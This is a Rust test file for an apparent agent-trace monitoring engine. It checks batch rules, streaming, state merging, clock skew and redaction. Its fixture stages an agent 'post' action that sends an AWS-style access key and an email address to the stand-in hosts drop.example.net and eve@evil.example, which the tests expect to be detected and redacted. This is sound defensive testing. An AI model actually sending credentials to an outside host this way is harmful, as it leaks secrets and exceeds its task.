//! Many runs: whole, streamed and day by day give the same; policies' batch rules run in the same call.

#![expect(clippy::unwrap_used, reason = "a test whose own input is not as it should be has failed")]

use std::fmt::Write as _;

use aop_engine::{Engine, Finding, RedactionKey, Settings, Timestamp, Trace, traces_from_jsonl};

const DAY: i64 = 86_400_000_000;
const NOW: &str = "2026-03-01T15:00:00Z";

fn now() -> Timestamp {
    NOW.parse().unwrap()
}

/// A run of a search, and of what `call` says where it is given: an action and its parameters.
fn run(id: usize, days_ago: f64, agent: i64, call: Option<(&str, &str)>) -> (Timestamp, String) {
    let start = Timestamp::from_micros(now().micros() - (days_ago * DAY as f64) as i64);
    let mut lines = String::new();
    let mut calls = vec![("search", r#"{"url":"https://api.example.org/v1"}"#)];
    calls.extend(call);
    let mut seq = 0;
    let mut event = |actor: &str, kind: &str, payload: String| {
        seq += 1;
        let t = Timestamp::from_micros(start.micros() + i64::from(seq) * 1_000_000);
        writeln!(
            lines,
            r#"{{"seq":{seq},"t":"{t}","actor":"{actor}","type":"{kind}","payload":{payload},"meta":{{"run_id":"r-{id}","agent_id":{agent},"session_id":"s-{}","team":"blue"}}}}"#,
            id % 7
        )
        .unwrap();
    };
    for (action, params) in calls {
        event("agent", "action_request", format!(r#"{{"action":"{action}","params":{params}}}"#));
        event("tool", "action_response", r#"{"status":"success","result":"fine"}"#.to_owned());
    }
    event("agent", "final_output", r#"{"output":"done"}"#.to_owned());
    (start, lines)
}

/// Four weeks of an agent's runs, and one today that posts a key and somebody's address to another host.
fn month() -> Vec<(Timestamp, String)> {
    let key = r#"{"url":"https://drop.example.net/x","to":"eve@evil.example","body":"AKIAQ3EGRZTX7WMNP2LD"}"#;
    let mut runs: Vec<_> = (0..220).map(|id| run(id, 28.0 - id as f64 * 0.125, 7, None)).collect();
    runs.push(run(220, 0.2, 7, Some(("post", key))));
    runs.push(run(221, 0.1, 8, Some(("post", key))));
    runs.sort();
    runs
}

fn engine(settings: &str, with_policy: bool) -> Engine {
    let settings: Settings = serde_json::from_str(settings).unwrap();
    let key = RedactionKey::new(std::array::from_fn(|at| at as u8));
    let builder = Engine::builder().settings(settings).redaction_key(key);
    if !with_policy {
        return builder.build().unwrap();
    }
    let policy = r#"policy acme.fleet version "1.0.0" dsl 1;
batch rule many @severity(info) { over runs window 7d by meta.team if runs.count > 3 then flag "{runs.count} runs of {meta.team}"; }"#;
    builder.policy(policy).unwrap().build().unwrap()
}

/// What is refused sends nothing, so an error alone refuses nothing here.
const LENIENT: &str = r#"{"threshold": "critical"}"#;

fn traces(text: &str) -> Vec<Trace<'_>> {
    let (traces, errors) = traces_from_jsonl(text.as_bytes(), &Default::default());
    assert!(errors.is_empty(), "{errors:?}");
    traces
}

fn said(findings: &[Finding]) -> Vec<(&str, &[String])> {
    findings.iter().map(|finding| (finding.rule.as_ref(), &finding.run_ids[..])).collect()
}

#[test]
fn runs_are_judged_by_themselves_and_together() {
    let engine = engine(LENIENT, true);
    let text: String = month().into_iter().map(|(_, text)| text).collect();
    let batch = engine.evaluate_all(&traces(&text));
    assert_eq!(batch.reports.len(), 222);
    let of_220 = batch.reports.iter().find(|report| report.run_id.as_deref() == Some("r-220")).unwrap();
    assert!(of_220.findings.iter().any(|finding| finding.rule == "secrets/aws-access-token"), "{of_220:?}");
    let alone = &traces(&text)[0];
    assert_eq!(engine.evaluate(alone), batch.reports[0]);

    let new = ["r-220".to_owned()];
    let both = ["r-220".to_owned(), "r-221".to_owned()];
    let rules = said(&batch.findings);
    assert!(rules.contains(&("batch/rare-action", &new)), "{rules:#?}");
    assert!(rules.contains(&("batch/shared-fingerprint", &both)), "{rules:#?}");
    let places: Vec<&str> = batch
        .findings
        .iter()
        .filter(|finding| finding.rule == "batch/new-destination")
        .map(|finding| finding.message.as_str())
        .collect();
    assert_eq!(places.len(), 3, "{places:#?}");
    assert!(places[0].contains("sends to @evil.example") && places[1].contains("sends to EMAIL_ADDRESS "), "{places:#?}");
    assert!(places[2].contains("sends to drop.example.net"), "{places:#?}");
    assert!(batch.findings.iter().all(|finding| !finding.message.contains("eve@") && !finding.message.contains("AKIA")));
    let many = batch.findings.last().unwrap();
    assert_eq!((many.rule.as_ref(), many.message.as_str()), ("acme.fleet.many", "54 runs of blue"));
}

#[test]
fn streamed_and_day_by_day_are_the_same_as_the_whole() {
    let engine = engine(LENIENT, true);
    let runs = month();
    let text: String = runs.iter().map(|(_, text)| text.as_str()).collect();
    let traces = traces(&text);
    let mut whole = engine.new_batch();
    let mut reports = Vec::new();
    engine.evaluate_stream(
        runs.iter(),
        |(_, text)| self::traces(text).remove(0).into_owned(),
        &mut whole,
        |report| {
            reports.push(report);
        },
    );
    assert_eq!(reports, engine.evaluate_all(&traces).reports);
    let findings = engine.finish_batch(&whole, now());
    assert!(!findings.is_empty());

    let mut kept = engine.new_batch().to_json();
    for day in runs.chunks(31) {
        let mut batch = engine.restore_batch(&kept).unwrap();
        engine.evaluate_stream(day.iter(), |(_, text)| self::traces(text).remove(0).into_owned(), &mut batch, drop);
        engine.forget_batch(&mut batch, day.last().unwrap().0);
        kept = batch.to_json();
    }
    assert_eq!(engine.finish_batch(&engine.restore_batch(&kept).unwrap(), now()), findings);

    let (low, high) = runs.split_at(100);
    let [mut one, mut other] = [low, high].map(|runs| {
        let mut batch = engine.new_batch();
        engine.evaluate_stream(runs.iter(), |(_, text)| self::traces(text).remove(0).into_owned(), &mut batch, drop);
        batch
    });
    let before = one.clone();
    engine.merge_batch(&mut one, &other);
    assert_eq!(one, whole);
    engine.merge_batch(&mut other, &before);
    assert_eq!(other, whole);
}

#[test]
fn without_a_key_no_value_is_compared_and_none_is_kept() {
    let settings: Settings = serde_json::from_str(LENIENT).unwrap();
    let engine = Engine::builder().settings(settings).build().unwrap();
    let text: String = month().into_iter().map(|(_, text)| text).collect();
    let mut batch = engine.new_batch();
    engine.evaluate_stream(traces(&text).into_iter(), Clone::clone, &mut batch, drop);
    let rules: Vec<_> = engine.finish_batch(&batch, now()).into_iter().map(|finding| finding.rule).collect();
    assert!(!rules.contains(&"batch/shared-fingerprint".into()) && rules.contains(&"batch/rare-action".into()), "{rules:?}");
    let kept = batch.to_json();
    assert!(!kept.contains("AKIA") && !kept.contains("eve@"), "a state holds no secret");
}

#[test]
fn a_state_of_other_buckets_is_refused_by_name() {
    let kept = engine("{}", false).new_batch().to_json();
    let said = |settings: &str, kept: &str| engine(settings, false).restore_batch(kept).unwrap_err().to_string();
    assert_eq!(
        said(r#"{"batch": {"bucket": "3h"}}"#, &kept),
        "this state of many runs counts time in buckets of 6 h, and `batch.bucket` is 3 h: set it back, or begin with an empty state"
    );
    assert!(said("{}", "{}").starts_with("this is no state of many runs: "));
    assert!(said("{}", &kept.replace("\"format\":1", "\"format\":9")).contains("format 9"));
    let off = engine(r#"{"batch": false}"#, false);
    let text = run(1, 0.1, 7, None).1;
    assert_eq!(off.evaluate_all(&traces(&text)).findings, []);
}

fn batch_of(engine: &Engine, lines: &str, horizon: Option<Timestamp>) -> aop_engine::BatchState {
    let mut batch = engine.new_batch();
    if let Some(horizon) = horizon {
        engine.set_batch_horizon(&mut batch, horizon);
    }
    engine.evaluate_stream(traces(lines).into_iter(), Clone::clone, &mut batch, drop);
    batch
}

#[test]
fn one_run_with_a_wrong_clock_does_not_blind_the_rules_nor_make_them_forget() {
    let engine = engine(LENIENT, false);
    let honest: String = month().into_iter().map(|(_, text)| text).collect();
    let odd = run(999, -27_000.0, 7, None).1;
    let clean = engine.evaluate_all(&traces(&honest)).findings;
    let both = format!("{odd}{honest}");
    let mut findings = engine.evaluate_all(&traces(&both)).findings;
    let said = findings.pop().unwrap();
    assert!(said.rule == "batch/capacity" && said.message.starts_with("1 runs begin after now"), "{said:?}");
    assert!(!clean.is_empty());
    assert_eq!(findings, clean);

    // Nothing was said of now beforehand: even so, what is kept is kept by the clocks of nearly all.
    let mut batch = batch_of(&engine, &both, None);
    let latest = engine.latest_of_batch(&batch).unwrap();
    assert_eq!(Some(latest), engine.latest_of_batch(&batch_of(&engine, &honest, None)));
    engine.forget_batch(&mut batch, latest);
    let kept = engine.finish_batch(&batch, latest);
    assert!(clean.iter().all(|finding| kept.contains(finding)), "{kept:#?}");

    // However many they are, those after the horizon push nothing out.
    let many: String = (0..400).map(|id| run(1000 + id, -27_000.0 - id as f64, 7, None).1).collect();
    let batch = batch_of(&engine, &format!("{many}{honest}"), Some(now()));
    let findings = engine.finish_batch(&batch, now());
    let whole = engine.finish_batch(&batch_of(&engine, &honest, Some(now())), now());
    assert!(whole.iter().all(|finding| findings.contains(finding)) && findings.len() == whole.len() + 1, "{findings:#?}");
    assert!(findings.iter().any(|finding| finding.message.starts_with("400 runs begin after now")), "{findings:#?}");
}

#[test]
fn names_of_runs_and_sessions_hold_no_data_in_a_state() {
    let engine = engine(LENIENT, false); // policies get `meta` as it was sent
    let text: String = month().into_iter().map(|(_, text)| text).collect();
    let named = text.replace("\"r-220\"", "\"AKIAQ3EGRZTX7WMNP2LD\"").replace("\"s-0\"", "\"eve.adams@evil.example\"");
    let kept = batch_of(&engine, &named, None).to_json();
    assert!(!kept.contains("AKIAQ3EGRZTX7WMNP2LD") && !kept.contains("eve.adams"), "{kept}");

    for name in ["order-17", "0192f0c1-7d4e-7a55-9d5b-3f1f3a1c2b4d"] {
        let findings = engine.evaluate_all(&traces(&text.replace("\"r-220\"", &format!("\"{name}\"")))).findings;
        assert!(findings.iter().any(|finding| finding.run_ids.iter().any(|id| id == name)), "{name}: {findings:#?}");
    }
}

#[test]
fn what_meta_has_beyond_its_bound_is_not_kept_and_is_said() {
    let engine = engine(LENIENT, true);
    let members: String = (0..10).map(|number| format!(r#","m{number}":"{}""#, "x".repeat(1000))).collect();
    let text = run(1, 0.1, 7, None).1.replace(r#","team":"blue""#, &format!(r#","team":"blue"{members}"#));
    let batch = batch_of(&engine, &text, None);
    assert!(batch.to_json().len() < 10_000);
    let findings = engine.finish_batch(&batch, now());
    assert!(
        findings.iter().any(|finding| finding.rule == "batch/capacity" && finding.message.contains("`meta`")),
        "{findings:#?}"
    );
}
